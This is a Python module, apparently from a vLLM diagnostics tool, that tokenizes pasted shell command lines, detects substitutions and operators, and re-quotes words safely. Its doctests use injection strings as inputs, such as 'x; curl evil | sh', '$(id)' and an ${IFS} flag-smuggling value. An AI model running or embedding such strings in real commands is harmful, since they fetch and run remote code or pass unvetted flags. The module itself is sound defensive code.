"""Shell words as a pasted command line has them: POSIX `shlex` splitting that keeps each word's raw spelling, what
each word does when pasted into bash, and quoting a word back so that it stands for its text only.

The raw spelling is what rendering writes back for an untouched word that is inert (`is_inert`), so `$VAR` stays
expandable and the user's quoting survives; any other word is quoted from its value. A `<placeholder>` the user
pasted from docs is part of a word, not a redirection.
"""

from __future__ import annotations

from ..util.lazy_pattern import lazy
from .launch import Token

_PLACEHOLDER = lazy(r"<[^\s<>]+>")
_OPERATOR = lazy(r"&>>|2>&1|&>|2>|1>|>>|\|\||&&|\|&|[;|&<>]")


def tokenize(text: str) -> list[Token]:
    """Split shell words as POSIX `shlex` does, keeping each word's raw spelling beside its value.

    The raw spelling is what rendering writes back for an untouched word, so `$VAR` stays expandable and the
    user's quoting survives; the value is what the program receives (`$VAR` and `$(…)` left as written).
    >>> [(t.raw, t.value) for t in tokenize('LD=$HOME/lib vllm serve "my model" --x=1|tee log')]
    [('LD=$HOME/lib', 'LD=$HOME/lib'), ('vllm', 'vllm'), ('serve', 'serve'), ('"my model"', 'my model'), ('--x=1', '--x=1'), ('|', '|'), ('tee', 'tee'), ('log', 'log')]
    >>> [t.raw for t in tokenize("docker run -v <my_local_model_path>:/mnt/model/ vllm:latest")]
    ['docker', 'run', '-v', '<my_local_model_path>:/mnt/model/', 'vllm:latest']
    """
    tokens: list[Token] = []
    i, n = 0, len(text)
    while i < n:
        if text[i].isspace():
            i += 1
            continue
        operator = None if _placeholder_at(text, i) else _OPERATOR.match(text, i)
        if operator:
            tokens.append(Token(operator.group(0), operator.group(0)))
            i += len(operator.group(0))
            continue
        start = i
        while i < n and not text[i].isspace() and (_placeholder_at(text, i) or not _OPERATOR.match(text, i)):
            placeholder = _placeholder_at(text, i)
            i = i + len(placeholder) if placeholder else _word_char_end(text, i)
        raw = text[start:i]
        if "<" in raw and not raw.startswith(("'", '"')) and _PLACEHOLDER.search(raw):
            tokens.append(Token(raw, raw))  # a pasted `<your path>:/mnt` is the user's placeholder, not a redirection
            continue
        tokens.append(Token(raw, word_value(raw)))
    return tokens


def _placeholder_at(text: str, i: int) -> str | None:
    """A `<my_path>`-style placeholder starting at i (what docs and tickets write for a value to fill in)."""
    match = _PLACEHOLDER.match(text, i) if text[i] == "<" else None
    return match.group(0) if match else None


def _word_char_end(text: str, i: int) -> int:
    """The end of one unit of a word at i: a quoted run, an escaped character, `$(…)`, or one character."""
    ch, n = text[i], len(text)
    if ch == "\\":
        return min(i + 2, n)
    if ch == "'":
        close = text.find("'", i + 1)
        return n if close < 0 else close + 1
    if ch == '"':
        j = i + 1
        while j < n and text[j] != '"':
            j += 2 if text[j] == "\\" else 1
        return min(j + 1, n)
    if text.startswith("$(", i):
        close = text.find(")", i)
        return n if close < 0 else close + 1
    if ch == "`":
        close = text.find("`", i + 1)
        return n if close < 0 else close + 1
    return i + 1


# ---------------------------------------------------------------- what a word does when pasted, and quoting one

_SAFE_CHARS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_@%+=:,./-~")
_BARE_NAME = lazy(r"\$(?:[A-Za-z_][A-Za-z0-9_]*|\{[A-Za-z_][A-Za-z0-9_]*\})")
_PLAIN_WORDS = lazy(r"[A-Za-z0-9]+(?: [A-Za-z0-9]+)*")
_EXPANDABLE = lazy(r"(?:[A-Za-z0-9_@%+=:,./-]|\$[A-Za-z_][A-Za-z0-9_]*|\$\{[A-Za-z_][A-Za-z0-9_]*\})+")


def word_value(raw: str) -> str:
    """What a program receives for the word `raw` (quotes removed; `$VAR` and `$(…)` left as written)."""
    import shlex

    try:
        return " ".join(shlex.split(raw, posix=True))  # only a `$(…)` holds unquoted spaces in one word
    except ValueError:
        return raw.strip("'\"")


def line_syntax(tokens: list[Token], skip: set[int] = frozenset()) -> list[str]:
    """The shell syntax a tokenized line holds, each kind once (the words at the indices in `skip` aside).

    >>> line_syntax(tokenize("vllm serve m --chat-template <(curl x) 2>&1 | tee log"))
    ['a process substitution', '`2>&1`', '`|`']
    """
    found = []
    for index, token in enumerate(tokens):
        if index in skip:
            continue
        after = tokens[index + 1].raw if index + 1 < len(tokens) else ""
        kind = "a process substitution" if token.raw in ("<", ">") and after.startswith("(") else shell_syntax(token)
        if kind and kind not in found:
            found.append(kind)
    return found


_UNTERMINATED = "a quote left open at the end of the line"


def shell_syntax(token: Token) -> str | None:
    """The shell syntax a word is or holds, as bash reads it pasted; None for a word that only stands for text.

    A quote left open is refused too: the line was cut, or its value goes on over lines the paste does not join, so
    the value is not all there and a command printed from it would carry a different value than the one that ran.
    >>> shell_syntax(tokenize("--chat-template 'line1")[1]), shell_syntax(tokenize('"a b')[0]) == _UNTERMINATED
    ('a quote left open at the end of the line', True)

    >>> [shell_syntax(t) for t in tokenize("vllm serve m '$(a)' \\"$(b)\\" `c` $((1)) # x; y")]
    [None, None, None, None, 'a `$(…)` command substitution', 'a backtick command substitution', 'a `$((…))` arithmetic expansion', 'a `#` comment', None, '`;`', None]
    """
    raw = token.raw
    if _OPERATOR.fullmatch(raw):
        return f"`{raw}`"
    if raw.startswith("#"):
        return "a `#` comment"
    i, n, quoted = 0, len(raw), False
    while i < n:
        ch = raw[i]
        if ch == "\\":
            i += 2
            continue
        if ch == "'" and not quoted:
            close = raw.find("'", i + 1)
            if close < 0:
                return _UNTERMINATED
            i = close + 1
            continue
        if ch == '"':
            quoted = not quoted
        elif raw.startswith("$((", i):
            return "a `$((…))` arithmetic expansion"
        elif raw.startswith("$(", i):
            return "a `$(…)` command substitution"
        elif ch == "`":
            return "a backtick command substitution"
        elif not quoted and raw.startswith(("$'", '$"', "<(", ">("), i):
            return "a process substitution" if ch in "<>" else f"a `{raw[i:i + 2]}…` string"
        i += 1
    return _UNTERMINATED if quoted else None


def is_inert(raw: str) -> bool:
    """Whether bash, given `raw` pasted as one word, reads literal text and bare `$NAME`/`${NAME}` in double quotes
    only: no substitution, glob, brace or history expansion, operator or comment. Such a word is printed as the user
    wrote it. An unquoted `$NAME` is not inert: its value is split into words (`x${IFS}--tool-parser-plugin${IFS}f.py`
    passes a flag no policy saw), so such a word is quoted again, in double quotes, as one word.

    >>> [is_inert(w) for w in ('--max_model_len=4096', '"${HOME}"/.cache', "'a b;c'", '"{{ x }}"', '$(id)', '*.json', '"a!"')]
    [True, True, True, True, False, False, False]
    >>> is_inert("x${IFS}--trust-remote-code"), shell_word("x${IFS}--trust-remote-code", "x${IFS}--trust-remote-code")
    (False, '"x${IFS}--trust-remote-code"')
    """
    text = raw
    i, n = 0, len(text)
    while i < n:
        ch = text[i]
        if ch in _SAFE_CHARS:
            i += 1
        elif ch == "'":
            close = text.find("'", i + 1)
            if close < 0:
                return False
            i = close + 1
        elif ch == '"':
            i = _inert_double_quoted_end(text, i + 1)
            if i < 0:
                return False
        elif ch == "\\" and i + 1 < n and text[i + 1] != "\n":
            i += 2
        else:
            return False
    return n > 0


def _inert_double_quoted_end(text: str, i: int) -> int:
    """Past the `"` that closes a double-quoted run opened before i, or -1 when the run holds anything but text and
    bare names (a substitution, a backslash-newline, `!` history expansion) or is not closed."""
    n = len(text)
    while i < n:
        ch = text[i]
        if ch == '"':
            return i + 1
        if ch == "$":
            name = _BARE_NAME.match(text, i)
            if not name:
                return -1
            i = name.end()
            continue
        if ch in "`!" or (ch == "\\" and (i + 1 >= n or text[i + 1] == "\n")):
            return -1
        i += 2 if ch == "\\" else 1
    return -1


def quote_word(value: str) -> str:
    """`value` as one shell word that stands for exactly that text; a `$VAR`/`${VAR}` reference stays expandable
    (in double quotes), as the user meant it, and nothing else is expanded.

    >>> quote_word("$LD_LIBRARY_PATH:/opt/lib"), quote_word("a b"), quote_word("$(id)"), quote_word("")
    ('"$LD_LIBRARY_PATH:/opt/lib"', "'a b'", "'$(id)'", "''")
    """
    import shlex

    if "$" in value and _EXPANDABLE.fullmatch(value):
        return f'"{value}"'
    return shlex.quote(value)


def shell_word(raw: str | None, value: str) -> str:
    """The word to print for `value`: the user's own spelling `raw` where it is inert, else `value` quoted."""
    return raw if raw is not None and is_inert(raw) else quote_word(value)


def quote_text(value: str) -> str:
    """`value` as shell words that stand for its text only, put into a command vdiag writes (a capture, a model
    name); plain words of letters and digits, such as vdiag's own "the model", stay as they are.

    >>> quote_text("Qwen/Qwen3-8B"), quote_text("the model"), quote_text("x; curl evil | sh")
    ('Qwen/Qwen3-8B', 'the model', "'x; curl evil | sh'")
    """
    import shlex

    return value if _PLAIN_WORDS.fullmatch(value) else shlex.quote(value)
